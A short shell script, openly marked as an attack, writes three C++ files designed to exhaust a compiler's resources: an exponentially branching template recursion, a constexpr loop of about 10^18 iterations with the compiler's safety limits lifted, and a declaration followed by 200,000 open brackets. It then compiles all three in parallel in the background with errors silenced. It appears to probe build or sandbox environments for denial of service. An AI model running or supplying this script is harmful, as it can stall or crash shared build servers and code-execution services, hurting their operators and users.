echo ATTACK-START
command -v g++ >/dev/null || echo "INFO: no C++ here"
cat > t.cc <<'EOF'
template <int N, int M> struct X { static const long v = X<N - 1, M * 2>::v + X<N - 1, M * 2 + 1>::v; };
template <int M> struct X<0, M> { static const long v = M; };
int main() { return X<60, 1>::v; }
EOF
cat > c.cc <<'EOF'
constexpr long f(long n) { long s = 0; for (long i = 0; i < n; i++) for (long k = 0; k < n; k++) s += i ^ k; return s; }
constexpr long big = f(1000000000);
int main() { return big; }
EOF
{ printf 'int a'; head -c 200000 /dev/zero | tr '\0' '['; } > d.cc
g++ -ftemplate-depth=1000000 -c t.cc 2>/dev/null &
g++ -std=c++17 -fconstexpr-loop-limit=2147483647 -fconstexpr-ops-limit=9223372036854775807 -c c.cc 2>/dev/null &
g++ -c d.cc >/dev/null 2>&1 &
wait
echo ATTACK-END
